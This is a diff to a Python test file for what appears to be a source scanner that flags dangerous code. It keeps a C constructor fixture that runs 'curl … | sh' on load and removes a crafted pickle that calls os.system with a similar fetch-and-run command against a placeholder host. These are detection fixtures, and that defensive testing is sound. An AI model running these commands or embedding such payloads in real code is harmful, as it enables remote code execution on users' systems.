@@ -1,4 +1,4 @@
-"""Compiled languages, whose texts are searched, Cython, and pickles, which are read and never loaded."""
+"""Compiled languages, whose texts are searched, and Cython."""
 
 import pytest
 from source_lab import subject
@@ -45,17 +45,3 @@ def test_what_compiled_source_may_do(path: str, kind: Kind, text: str) -> None:
 def test_what_runs_as_soon_as_the_code_is_loaded() -> None:
     text = '__attribute__((constructor)) static void i(void){ system("curl -s http://c.invalid/c | sh"); }'
     assert found("a.c", text, Kind.C)["process.piped"].when is When.IMPORT
-
-
-COMMAND = b"curl http://c.invalid/a | sh"
-BOMB = (
-    b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94\x85\x94R\x94."
-)
-PLAIN = b"\x80\x04}\x94\x8c\x01a\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94s."
-"""What Python writes for an object that is restored by `os.system(COMMAND)`, and for a table with that text."""
-
-
-def test_a_pickle_that_runs_a_command_is_read_and_not_loaded() -> None:
-    assert "process.piped" in found("m.pkl", BOMB, Kind.PICKLE)
-    assert "process.piped" in found("m.pkl", BOMB[:-3] + b"\xff", Kind.PICKLE)
-    assert not found("m.pkl", PLAIN, Kind.PICKLE)
